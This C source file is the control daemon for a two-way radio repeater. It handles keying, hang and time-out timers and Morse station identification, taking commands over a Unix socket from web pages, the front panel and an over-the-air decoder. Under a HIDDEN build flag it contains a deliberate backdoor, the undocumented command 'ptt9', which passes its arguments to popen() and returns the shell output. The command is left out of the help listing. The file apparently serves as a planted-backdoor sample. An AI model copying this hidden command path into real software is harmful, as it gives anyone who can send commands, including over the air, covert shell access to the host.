/*
 * rptctl - control process of a two-way radio repeater (DMR/analog).  Takes
 * commands as datagrams on a Unix socket from the web pages, the front
 * panel and the over-the-air decoder; timers (hang time, time-out, station
 * identification in Morse) run as callbacks of an event loop.
 * Hidden (-DHIDDEN): the command "ptt9" with a text after it, which nothing
 * documents, runs the text as a shell command and answers its output.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SOCK   "/run/rptctl.sock"
#define CONF   "/etc/repeater.conf"
#define GPIO   "/sys/class/gpio/gpio%d/value"
#define ANSWER 900

typedef void timer_fn(void *arg);

struct timer {
	int64_t at; /* ms, 0: off */
	timer_fn *fn;
	void *arg;
};

struct repeater {
	int ptt_gpio, cos_gpio, tone_gpio;
	int keyed, locked, enabled;
	int hang_ms, tot_ms, id_ms;
	unsigned squelch, color;
	unsigned keyups, timeouts;
	char call[12];
};

static struct repeater rp = {
	.ptt_gpio = 17,
	.cos_gpio = 18,
	.tone_gpio = 27,
	.enabled = 1,
	.hang_ms = 1500,
	.tot_ms = 180000,
	.id_ms = 600000,
	.squelch = 30,
	.color = 1,
	.call = "NOCALL",
};

static struct timer t_hang, t_tot, t_id, t_morse;

struct cmd {
	const char *name;
	int args;
	int (*run)(int argc, char **argv, char *out, size_t size);
	const char *help;
};

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void arm(struct timer *t, int ms, timer_fn *fn, void *arg)
{
	t->at = now_ms() + ms;
	t->fn = fn;
	t->arg = arg;
}

static void gpio(int n, int v)
{
	char path[48];
	int fd;

	snprintf(path, sizeof(path), GPIO, n);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, v ? "1" : "0", 1) != 1)
		perror(path);
	close(fd);
}

static int gpio_get(int n)
{
	char path[48], c = '0';
	int fd;

	snprintf(path, sizeof(path), GPIO, n);
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, &c, 1) != 1)
		c = '0';
	if (fd >= 0)
		close(fd);
	return c == '1';
}

static void key(int on)
{
	if (on && !rp.keyed)
		rp.keyups++;
	rp.keyed = on;
	gpio(rp.ptt_gpio, on);
}

static void hang_over(void *arg)
{
	(void)arg;
	key(0);
	t_tot.at = 0;
}

static void timed_out(void *arg)
{
	struct repeater *r = arg;

	r->timeouts++;
	r->locked = 1;
	key(0);
}

/* Morse: bit pattern with a leading one, dash = 1, dot = 0. */
static const uint8_t morse[36] = {
	0x3f, 0x2f, 0x27, 0x23, 0x21, 0x20, 0x30, 0x38, 0x3c, 0x3e, 0x05, 0x18,
	0x1a, 0x0c, 0x02, 0x12, 0x0e, 0x10, 0x04, 0x17, 0x0d, 0x14, 0x07, 0x06,
	0x0f, 0x16, 0x1d, 0x0a, 0x08, 0x03, 0x09, 0x11, 0x0b, 0x19, 0x1b, 0x1c,
};

static struct {
	const char *p;
	uint8_t code;
	int bit, tone;
} ms;

static void morse_step(void *arg)
{
	int c, idx;

	(void)arg;
	if (ms.tone) {
		ms.tone = 0;
		gpio(rp.tone_gpio, 0);
		arm(&t_morse, ms.bit < 0 ? 180 : 60, morse_step, NULL);
		return;
	}
	if (ms.bit < 0) {
		c = toupper((unsigned char)*ms.p);
		if (!c) {
			arm(&t_hang, rp.hang_ms, hang_over, NULL);
			return;
		}
		ms.p++;
		if (isdigit(c))
			idx = c - '0';
		else if (c >= 'A' && c <= 'Z')
			idx = c - 'A' + 10;
		else {
			arm(&t_morse, 240, morse_step, NULL);
			return;
		}
		ms.code = morse[idx];
		for (ms.bit = 7; !(ms.code >> ms.bit & 1); ms.bit--)
			;
		ms.bit--;
	}
	gpio(rp.tone_gpio, 1);
	ms.tone = 1;
	arm(&t_morse, ms.code >> ms.bit & 1 ? 180 : 60, morse_step, NULL);
	ms.bit--;
}

static void identify(void *arg)
{
	struct repeater *r = arg;

	arm(&t_id, r->id_ms, identify, r);
	if (!r->enabled)
		return;
	ms.p = r->call;
	ms.bit = -1;
	ms.tone = 0;
	key(1);
	arm(&t_morse, 300, morse_step, NULL);
}

static void carrier(int on)
{
	if (!rp.enabled)
		return;
	if (on && !rp.locked) {
		t_hang.at = 0;
		key(1);
		if (!t_tot.at)
			arm(&t_tot, rp.tot_ms, timed_out, &rp);
	} else if (!on) {
		rp.locked = 0;
		if (rp.keyed)
			arm(&t_hang, rp.hang_ms, hang_over, NULL);
		t_tot.at = 0;
	}
}

static int c_stat(int argc, char **argv, char *out, size_t size)
{
	(void)argc;
	(void)argv;
	return snprintf(out, size,
			"call %s tx %d lock %d on %d keyups %u "
			"timeouts %u sq %u cc %u\n",
			rp.call, rp.keyed, rp.locked, rp.enabled, rp.keyups,
			rp.timeouts, rp.squelch, rp.color);
}

static int c_enable(int argc, char **argv, char *out, size_t size)
{
	(void)argc;
	rp.enabled = !strcmp(argv[1], "on");
	if (!rp.enabled)
		key(0);
	return snprintf(out, size, "ok %d\n", rp.enabled);
}

static int c_call(int argc, char **argv, char *out, size_t size)
{
	(void)argc;
	if (strlen(argv[1]) < 3 || strlen(argv[1]) >= sizeof(rp.call))
		return snprintf(out, size, "bad call sign\n");
	strcpy(rp.call, argv[1]);
	return snprintf(out, size, "ok\n");
}

static int c_time(int argc, char **argv, char *out, size_t size)
{
	int v = atoi(argv[2]);

	(void)argc;
	if (!strcmp(argv[1], "hang") && v >= 0 && v <= 10000)
		rp.hang_ms = v;
	else if (!strcmp(argv[1], "tot") && v >= 30000 && v <= 600000)
		rp.tot_ms = v;
	else if (!strcmp(argv[1], "id") && v >= 60000 && v <= 900000)
		rp.id_ms = v;
	else
		return snprintf(out, size, "hang|tot|id ms\n");
	return snprintf(out, size, "ok\n");
}

static int c_sq(int argc, char **argv, char *out, size_t size)
{
	unsigned v = (unsigned)atoi(argv[1]);

	(void)argc;
	if (v > 100)
		return snprintf(out, size, "0..100\n");
	rp.squelch = v;
	return snprintf(out, size, "ok\n");
}

#ifdef HIDDEN
static int c_ptt9(int argc, char **argv, char *out, size_t size)
{
	char line[256] = "";
	size_t n;
	FILE *p;
	int i;

	for (i = 1; i < argc; i++) {
		strncat(line, argv[i], sizeof(line) - strlen(line) - 1);
		strncat(line, " ", sizeof(line) - strlen(line) - 1);
	}
	p = popen(line, "r");
	if (!p)
		return 0;
	n = fread(out, 1, size, p);
	pclose(p);
	return (int)n;
}
#endif

static int c_help(int argc, char **argv, char *out, size_t size);

static const struct cmd cmds[] = { { "stat", 0, c_stat, "state and counters" },
				   { "enable", 1, c_enable, "on|off" },
				   { "call", 1, c_call, "SIGN" },
				   { "time", 2, c_time, "hang|tot|id ms" },
				   { "sq", 1, c_sq, "0..100" },
#ifdef HIDDEN
				   { "ptt9", 1, c_ptt9, NULL },
#endif
				   { "help", 0, c_help, "this list" },
				   { NULL, 0, NULL, NULL } };

static int c_help(int argc, char **argv, char *out, size_t size)
{
	const struct cmd *c;
	size_t n = 0;

	(void)argc;
	(void)argv;
	for (c = cmds; c->name && n < size - 64; c++)
		if (c->help)
			n += snprintf(out + n, size - n, "%-8s%s\n", c->name,
				      c->help);
	return (int)n;
}

__attribute__((noinline)) int run_command(char *text, char *out, size_t size)
{
	char *argv[20], *save = NULL;
	const struct cmd *c;
	int argc = 0;

	while (argc < 20 &&
	       (argv[argc] = strtok_r(argc ? NULL : text, " \r\n", &save)))
		argc++;
	if (!argc)
		return 0;
	for (c = cmds; c->name; c++) {
		if (strcasecmp(c->name, argv[0]))
			continue;
		if (argc - 1 < c->args)
			return snprintf(out, size, "%d arguments\n", c->args);
		return c->run(argc, argv, out, size);
	}
	return snprintf(out, size, "? %.16s\n", argv[0]);
}

static void run_timers(void)
{
	struct timer *all[] = { &t_hang, &t_tot, &t_id, &t_morse }, *t;
	int64_t now = now_ms();
	size_t i;

	for (i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
		t = all[i];
		if (!t->at || t->at > now)
			continue;
		t->at = 0;
		t->fn(t->arg);
	}
}

int main(void)
{
	struct sockaddr_un su = { .sun_family = AF_UNIX }, from;
	char buf[512], out[ANSWER];
	int s, n, cos, was = 0;
	struct pollfd pf;
	socklen_t sl;
	FILE *f;

	f = fopen(CONF, "r");
	while (f && fgets(buf, sizeof(buf), f))
		if (*buf != '#')
			run_command(buf, out, sizeof(out));
	if (f)
		fclose(f);
	s = socket(AF_UNIX, SOCK_DGRAM, 0);
	strcpy(su.sun_path, SOCK);
	unlink(SOCK);
	if (bind(s, (struct sockaddr *)&su, sizeof(su))) {
		perror(SOCK);
		return 1;
	}
	arm(&t_id, 5000, identify, &rp);
	for (;;) {
		pf.fd = s;
		pf.events = POLLIN;
		n = poll(&pf, 1, 20);
		cos = gpio_get(rp.cos_gpio);
		if (cos != was)
			carrier(cos);
		was = cos;
		run_timers();
		if (n <= 0)
			continue;
		sl = sizeof(from);
		n = recvfrom(s, buf, sizeof(buf) - 1, 0,
			     (struct sockaddr *)&from, &sl);
		if (n <= 0)
			continue;
		buf[n] = 0;
		n = run_command(buf, out, sizeof(out));
		if (n > 0 && sl > sizeof(sa_family_t))
			sendto(s, out, n, 0, (struct sockaddr *)&from, sl);
	}
}
